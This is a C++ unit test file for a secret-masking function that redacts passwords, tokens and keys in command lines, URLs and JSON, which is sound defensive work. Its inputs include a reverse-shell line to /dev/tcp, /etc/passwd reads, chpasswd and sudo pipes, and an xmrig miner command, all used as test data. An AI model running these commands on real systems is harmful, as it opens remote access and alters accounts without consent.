// SPDX-License-Identifier: Apache-2.0
#include "casefile/mask_secrets.h"

#include <gtest/gtest.h>

namespace firsthour {
namespace {

TEST(MaskSecrets, HidesWhatFollowsTheNameOfASecret) {
  EXPECT_EQ(mask_secrets("app --password=hunter2 --port=80"), "app --password=**** --port=80");
  EXPECT_EQ(mask_secrets("app --password hunter2 --port 80"), "app --password **** --port 80");
  EXPECT_EQ(mask_secrets("app --db.password=hunter2 -v"), "app --db.password=**** -v");
  EXPECT_EQ(mask_secrets("PASSWORD=hunter2 HOME=/root"), "PASSWORD=**** HOME=/root");
  EXPECT_EQ(mask_secrets("MYSQL_ROOT_PASSWORD='a b c' X=1"), "MYSQL_ROOT_PASSWORD='****' X=1");
  EXPECT_EQ(mask_secrets("GET /x?token=abc&user=me"), "GET /x?token=****&user=me");
  EXPECT_EQ(mask_secrets("AWS_SECRET_ACCESS_KEY=abc"), "AWS_SECRET_ACCESS_KEY=****");
  EXPECT_EQ(mask_secrets("api_key: abc"), "api_key: ****");
  EXPECT_EQ(mask_secrets("Uid=sa;Pwd=secret;Server=db"), "Uid=sa;Pwd=****;Server=db");
  EXPECT_EQ(mask_secrets("数据库密码：abc123"), "数据库密码：****");
}

TEST(MaskSecrets, HidesInsideJson) {
  EXPECT_EQ(mask_secrets(R"({"a":"x --password=hunter2","b":1})"), R"({"a":"x --password=****","b":1})");
  EXPECT_EQ(mask_secrets(R"({"password":"hunter2","b":1})"), R"({"password":"****","b":1})");
  EXPECT_EQ(mask_secrets(R"(["app","--token","abc","x"])"), R"(["app","--token","****","x"])");
  EXPECT_EQ(mask_secrets(R"("{\"password\":\"hunter2\"}")"), R"("{\"password\":\"****\"}")");
}

TEST(MaskSecrets, HidesThePasswordOfAnAddress) {
  EXPECT_EQ(mask_secrets("curl https://me:hunter2@example.org/x"), "curl https://me:****@example.org/x");
  EXPECT_EQ(mask_secrets("curl https://example.org:8443/@x"), "curl https://example.org:8443/@x");
  EXPECT_EQ(mask_secrets("redis://:p@ss@192.0.2.1:6379/0"), "redis://:****@192.0.2.1:6379/0");
}

TEST(MaskSecrets, HidesWhatSomeProgramsTakeWithoutAName) {
  EXPECT_EQ(mask_secrets("mysqldump -u root -pS3cr3t app"), "mysqldump -u root -p**** app");
  EXPECT_EQ(mask_secrets("sshpass -p S3cr3t ssh host"), "sshpass -p **** ssh host");
  EXPECT_EQ(mask_secrets("curl -u me:S3cr3t https://example.org"), "curl -u me:**** https://example.org");
  EXPECT_EQ(mask_secrets("redis-cli -a S3cr3t ping"), "redis-cli -a **** ping");
}

TEST(MaskSecrets, HidesPasswordsThatOtherProgramsShowedInCommandLines) {
  EXPECT_EQ(mask_secrets("SSHPASS=S3cr3t sshpass -e ssh x"), "SSHPASS=**** sshpass -e ssh x");
  EXPECT_EQ(mask_secrets("app dbpass=S3cr3t --bypass=x"), "app dbpass=**** --bypass=x");
  EXPECT_EQ(mask_secrets("openssl rsa -passin pass:S3cr3t"), "openssl rsa -passin ****");
  EXPECT_EQ(mask_secrets("curl -sSu me:S3cr3t x"), "curl -sSu me:**** x");
  EXPECT_EQ(mask_secrets("curl --user=me:S3,cr;3t x"), "curl --user=me:**** x");
  EXPECT_EQ(mask_secrets("curl --proxy-user me:S3cr3t x"), "curl --proxy-user me:**** x");
  EXPECT_EQ(mask_secrets("smbclient //h/s -U me%S3cr3t"), "smbclient //h/s -U me%****");
  EXPECT_EQ(mask_secrets("docker login -u me -p S3cr3t host"), "docker login -u me -p **** host");
  EXPECT_EQ(mask_secrets("ldapsearch -x -w S3cr3t"), "ldapsearch -x -w ****");
  EXPECT_EQ(mask_secrets("7z a -pS3cr3t x.7z"), "7z a -p**** x.7z");
  EXPECT_EQ(mask_secrets("xfreerdp /u:me /p:S3cr3t"), "xfreerdp /u:me /p:****");
}

TEST(MaskSecrets, HidesPasswordsThatAreNotNamed) {
  EXPECT_EQ(mask_secrets("echo S3cr3t | sudo -S rm x"), "echo **** | sudo -S rm x");
  EXPECT_EQ(mask_secrets("echo root:S3cr3t|chpasswd"), "echo ****|chpasswd");
  EXPECT_EQ(mask_secrets("htpasswd -bc /etc/x me S3cr3t; ls"), "htpasswd -bc /etc/x me ****; ls");
  EXPECT_EQ(mask_secrets("htpasswd -c /etc/x me"), "htpasswd -c /etc/x me");
  EXPECT_EQ(mask_secrets("CREATE USER a IDENTIFIED BY 'S3cr3t';"), "CREATE USER a IDENTIFIED BY '****';");
  EXPECT_EQ(mask_secrets("openssl enc -aes-256-cbc -k S3cr3t -in x"),
            "openssl enc -aes-256-cbc -k **** -in x");
  EXPECT_EQ(mask_secrets("xmrig -o pool:3333 -u w -p S3cr3t"), "xmrig -o pool:3333 -u w -p ****");
}

TEST(MaskSecrets, HidesHeadersKeysAndTokensByTheirShape) {
  EXPECT_EQ(mask_secrets("Authorization: Basic bWU6cHc="), "Authorization: ****");
  EXPECT_EQ(mask_secrets("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"),
            "-----BEGIN RSA PRIVATE KEY-----****-----END RSA PRIVATE KEY-----");
  EXPECT_EQ(mask_secrets("use AKIAABCDEFGHIJKLMNOP now"), "use AKIA**** now");
}

TEST(MaskSecrets, LeavesOrdinaryTextAlone) {
  for (const char* text : {"/etc/passwd: root owns it", "cat /etc/passwd", "cat /etc/passwd-",
                           "bash -i >& /dev/tcp/203.0.113.9/4444", "PWD=/root OLDPWD=/var",
                           R"({"user.password_state":"set"})", "http://192.0.2.1:8080/a@b",
                           "ssh -p 2222 host", "mysql -p app", "host.authorized_key", "key.type: ssh-ed25519",
                           "curl -u me https://x", "", "curl --user-agent a:b", "--password", "password="})
    EXPECT_EQ(mask_secrets(text), text);
}

TEST(MaskSecrets, HidesASecretFoundTwiceOnce) {
  EXPECT_EQ(mask_secrets("curl -u me:S3cr3t --password=S3cr3t"), "curl -u me:**** --password=****");
  EXPECT_EQ(mask_secrets("token=AKIAABCDEFGHIJKLMNOP x"), "token=**** x");
  EXPECT_EQ(mask_secrets("Authorization: Bearer hunter2hunter2"), "Authorization: ****");
}

// Each of these makes a scan that begins anew at every start take minutes: then the test runs into its limit.
TEST(MaskSecrets, TakesALongHostileLineInLinearTime) {
  for (const std::string_view part :
       {"://", "://a:", "-----BEGIN ", "mysql -px ", "curl -u a ", "AKIA ", "htpasswd -b ",
        "echo x|chpasswd ", "eyJ/", "密码", "token ", "\"", "password=\\\""}) {
    std::string line;
    while (line.size() < (1 << 20)) line += part;
    EXPECT_LE(mask_secrets(line).size(), 2 * line.size()) << part;
  }
}

TEST(MaskSecrets, TakesALongLine) {
  const std::string line = "token=" + std::string(1 << 20, 'x');
  EXPECT_EQ(mask_secrets(line), "token=****");
}

}  // namespace
}  // namespace firsthour
